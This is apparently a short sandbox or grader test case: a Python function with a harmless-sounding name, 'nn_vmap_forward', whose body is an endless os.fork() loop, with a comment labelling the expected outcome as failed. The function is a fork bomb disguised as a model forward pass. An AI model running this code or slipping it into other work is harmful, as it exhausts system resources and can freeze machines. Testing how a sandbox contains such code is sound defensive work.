"""Forks, and each fork forks."""
# outcome: failed; rule: raised|crashed|timed-out
import os


def nn_vmap_forward(seed, x_batch, features):
    while True:
        os.fork()
